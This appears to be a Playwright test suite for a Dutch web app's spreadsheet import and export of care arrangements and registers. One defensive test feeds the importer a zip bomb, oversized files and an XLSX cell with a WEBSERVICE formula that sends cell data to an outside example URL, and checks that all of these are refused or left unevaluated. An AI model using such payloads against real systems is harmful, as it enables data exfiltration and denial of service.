import type { Page } from '@playwright/test';
import { zipSync } from 'fflate';
import { readFile } from 'node:fs/promises';
import { fileURLToPath } from 'node:url';
import { xlsxOfRows } from '../helpers/spreadsheets';
import { changeCells } from './support/sheets';
import { goTo, introduceOneself } from './support/person';
import { expect, test } from './support/test';

const listPath = (name: string): string => fileURLToPath(new URL(`../fixtures/inventory/${name}`, import.meta.url));

async function openImport(page: Page): Promise<void> {
  // Whoever is there already begins anew.
  await goTo(page, '/voorbereiden');
  await goTo(page, '/voorbereiden/arrangementen/overnemen');
}

async function pick(page: Page, file: string | { name: string; mimeType: string; buffer: Buffer }): Promise<void> {
  await openImport(page);
  await page.getByLabel('Kies een bestand').setInputFiles(file);
}

async function takeOver(page: Page, said: string): Promise<void> {
  await page.getByRole('button', { name: 'Neem over', exact: true }).click();
  await expect(page.getByText(said)).toBeVisible();
  // What is said there stays as long as one points at it.
  await page.mouse.move(0, 0);
}

/** Puts away what was said, which may stand over what comes next. */
async function putAwayNotices(page: Page): Promise<void> {
  const close = page.getByRole('region', { name: 'Meldingen' }).getByRole('button', { name: 'Melding sluiten' });
  while ((await close.count()) > 0) await close.first().click();
}

/** Waits for the preview and for each of the lines that must stand in it. */
async function expectPlan(page: Page, ...lines: readonly string[]): Promise<void> {
  for (const line of lines) await expect(page.getByRole('listitem').filter({ hasText: line }).first()).toBeVisible();
}

const nothingToDo = (page: Page): Promise<void> =>
  expect(page.getByText('Er verandert niets.', { exact: true })).toBeVisible();

test('J4 INV-6 INV-7 IO-3 four lists become one inventory, again they change nothing, and two edits bring two changes', async ({
  host,
  startDevice,
}) => {
  const { page } = await startDevice();
  await introduceOneself(page, host.url);

  await pick(page, listPath('gemeente.csv'));
  await expectPlan(page, '5 nieuwe arrangementen');
  await expect(page.getByText('4 cellen gaan niet mee')).toBeVisible();
  await expectPlan(page, '‘zes’. Hier hoort een getal', '‘zomer 2022’. Hier hoort een hele datum');
  await takeOver(page, '5 arrangementen zijn overgenomen.');

  // The list stands on the second sheet; two of its rows are like what is there.
  await pick(page, listPath('swv.xlsx'));
  await page.getByLabel('Welk werkblad?').selectOption({ label: 'Overzicht (8 regels)' });
  await expectPlan(page, '2 nieuwe arrangementen', '2 regels wachten op uw keuze');
  await page.getByLabel('Regel 4: Zorgklas Brug, De Brug').selectOption('hetzelfde als Zorgklas De Brug, SO De Brug');
  await expectPlan(page, '1 regel wacht op uw keuze');
  await page.getByLabel(/^Regel 5: Taal-klas/).selectOption('hetzelfde als Taalklas, OBS Het Anker');
  await expectPlan(page, '2 arrangementen krijgen andere gegevens');
  await takeOver(page, '4 arrangementen zijn overgenomen.');

  await pick(page, listPath('aanbieder.ods'));
  await expectPlan(page, '1 nieuw arrangement', '2 arrangementen krijgen andere gegevens');
  await takeOver(page, '3 arrangementen zijn overgenomen.');

  await openImport(page);
  await page.getByLabel('Of plak een tabel').fill(await readFile(listPath('geplakt.txt'), 'utf8'));
  await page.getByRole('button', { name: 'Lees de tabel' }).click();
  await page.getByLabel(/^Regel 3: Onderwijs-zorggroep EMB/).selectOption({ index: 1 });
  await expectPlan(page, '1 nieuw arrangement', '1 arrangement blijft zoals het is');
  await takeOver(page, '1 arrangement is overgenomen.');

  await pick(page, listPath('gemeente.csv'));
  await nothingToDo(page);
  await pick(page, listPath('swv.xlsx'));
  await page.getByLabel('Welk werkblad?').selectOption({ label: 'Overzicht (8 regels)' });
  await nothingToDo(page);

  await goTo(page, '/voorbereiden/arrangementen');
  await page.getByText('Bewaar als spreadsheet').click();
  const downloading = page.waitForEvent('download');
  await page.getByRole('button', { name: 'Excel (.xlsx)' }).click();
  const saved = await readFile(await (await downloading).path());
  const edited = await changeCells(saved, { Rustpunt: 'Rustpunt Noord', 'Opgave school': 'Jaarverslag' });

  await pick(page, { name: 'arrangementen.xlsx', mimeType: 'application/vnd.ms-excel', buffer: saved });
  await nothingToDo(page);
  await pick(page, { name: 'bewerkt.xlsx', mimeType: 'application/vnd.ms-excel', buffer: edited });
  await expectPlan(
    page,
    '2 arrangementen krijgen andere gegevens',
    '7 arrangementen blijven zoals ze zijn',
    'Naam van het arrangement: ‘Rustpunt’ wordt ‘Rustpunt Noord’',
    '‘Opgave school’ wordt ‘Jaarverslag’',
  );
  await takeOver(page, '2 arrangementen zijn overgenomen.');

  await page.getByRole('button', { name: 'Maak de overname van bewerkt.xlsx ongedaan' }).click();
  await expect(page.getByText('De overname is ongedaan gemaakt.')).toBeVisible();
  await goTo(page, '/voorbereiden/arrangementen');
  await expect(page.getByRole('link', { name: 'Rustpunt', exact: true })).toBeVisible();
  await expect(page.getByText('van 9 arrangementen')).toBeVisible();
});

test('INV-6 a hostile file is refused in words and changes nothing', async ({ host, startDevice }) => {
  const { page } = await startDevice();
  await introduceOneself(page, host.url);
  const hostile = [
    ['foto.png', Buffer.from([0x89, 0x50, 0, 1, 2]), 'Dit is geen spreadsheet.'],
    ['stuk.xlsx', Buffer.from('PK\u0003\u0004 en niets meer'), 'Dit bestand is beschadigd.'],
    ['breed.csv', Buffer.from(`${'a;'.repeat(1_000_000)}b\n1;2`), 'Er staan te veel kolommen in'],
    ['lang.csv', Buffer.from('a;b\n'.repeat(1_000_000)), 'Er staan te veel regels in'],
    ['groot.csv', Buffer.alloc(9 * 1_048_576, 'a'), 'Dit bestand is te groot'],
    // Some kilobytes that come to more than may be unpacked.
    [
      'bom.xlsx',
      Buffer.from(zipSync({ 'xl/workbook.xml': new Uint8Array(65 * 1_048_576) })),
      'Dit bestand is te groot',
    ],
  ] as const;
  for (const [name, buffer, said] of hostile) {
    await pick(page, { name, mimeType: 'application/octet-stream', buffer });
    await expect(page.getByText(`${name} is niet gelezen`)).toBeVisible();
    await expect(page.getByRole('alert').filter({ hasText: said })).toBeVisible();
  }

  // A formula is the text that it came to; it is never counted, and nothing is taken over by itself.
  const formula = '<f>WEBSERVICE("https://voorbeeld.nl/"&amp;A1)</f>';
  const cell = (place: string, text: string, before = ''): string =>
    `<c r="${place}" t="str">${before}<v>${text}</v></c>`;
  const rows = `<row r="1">${cell('A1', 'Naam')}${cell('B1', 'Gemeente')}</row><row r="2">${cell('A2', 'Zorgklas')}${cell('B2', 'Leiden', formula)}</row>`;
  await pick(page, {
    name: 'formule.xlsx',
    mimeType: 'application/vnd.ms-excel',
    buffer: Buffer.from(xlsxOfRows(rows)),
  });
  await expectPlan(page, '1 nieuw arrangement');
  await expect(page.getByText(/WEBSERVICE|voorbeeld\.nl/)).toHaveCount(0);
  await goTo(page, '/voorbereiden/arrangementen');
  await expect(page.getByText('Nog geen arrangementen')).toBeVisible();
});

test('J4 INV-1 INV-13 IO-3 a register is saved, changed in a spreadsheet and taken over with exactly the changes, which it remembers', async ({
  host,
  startDevice,
}) => {
  const { page } = await startDevice();
  await introduceOneself(page, host.url);
  await goTo(page, '/voorbereiden/registers/basisondersteuning/overnemen');
  await page
    .getByLabel('Of plak een tabel')
    .fill('School\tLeerplicht\tUren SMW\nDe Brug\tja\t4,5\nHet Anker\tnee\tveel');
  await page.getByRole('button', { name: 'Lees de tabel' }).click();
  await expect(page.getByLabel('Waar is deze lijst voor?')).toHaveValue('basic-support');
  await expectPlan(page, '2 regels wachten op uw keuze', '‘veel’. Hier hoort een getal');
  await page.getByRole('button', { name: 'Neem alle namen over zoals ze er staan' }).click();
  await expectPlan(page, '2 nieuwe regels');
  await takeOver(page, '2 regels zijn overgenomen.');
  await putAwayNotices(page);

  await goTo(page, '/voorbereiden/registers');
  await page.getByText('Bewaar als spreadsheet').click();
  const downloading = page.waitForEvent('download');
  await page.getByRole('button', { name: 'Spreadsheet (.ods)' }).click();
  await expect(page.getByText('registers.ods gaat naar uw downloads.')).toBeVisible();
  expect((await downloading).suggestedFilename()).toBe('registers.ods');
  await putAwayNotices(page);

  await goTo(page, '/voorbereiden/registers/basisondersteuning');
  await page.getByText('Bewaar als spreadsheet').click();
  const downloadingOne = page.waitForEvent('download');
  await page.getByRole('button', { name: 'Excel (.xlsx)' }).click();
  const saved = await readFile(await (await downloadingOne).path());
  await putAwayNotices(page);
  const edited = await changeCells(saved, { nee: 'ja', 'De Brug': 'De Nieuwe Brug' });

  await goTo(page, '/voorbereiden/registers/basisondersteuning/overnemen');
  const type = 'application/vnd.ms-excel';
  await page.getByLabel('Kies een bestand').setInputFiles({ name: 'zelfde.xlsx', mimeType: type, buffer: saved });
  await nothingToDo(page);
  await page.getByRole('button', { name: 'Kies een andere lijst' }).click();
  await page.getByLabel('Kies een bestand').setInputFiles({ name: 'bewerkt.xlsx', mimeType: type, buffer: edited });
  await page.getByLabel('School: De Nieuwe Brug').selectOption('‘De Nieuwe Brug’, zoals het er staat');
  await expectPlan(
    page,
    '2 regels krijgen andere gegevens',
    'School: ‘De Brug’ wordt ‘De Nieuwe Brug’',
    'Is er een leerplichtambtenaar?: ‘nee’ wordt ‘ja’',
  );
  await takeOver(page, '2 regels zijn overgenomen.');
  await putAwayNotices(page);

  await goTo(page, '/voorbereiden/registers/basisondersteuning');
  await page.getByRole('link', { name: 'De Nieuwe Brug', exact: true }).click();
  await page.getByRole('link', { name: 'Wat is er veranderd' }).click();
  await page.getByRole('button', { name: /Zet terug.*School naar De Brug/ }).click();
  await expect(page.getByText('School is teruggezet.')).toBeVisible();
  await putAwayNotices(page);

  await goTo(page, '/voorbereiden/registers/basisondersteuning/overnemen');
  await page.getByRole('button', { name: 'Maak de overname van bewerkt.xlsx ongedaan' }).click();
  await expect(page.getByText(/De overname is ongedaan gemaakt/)).toBeVisible();
});
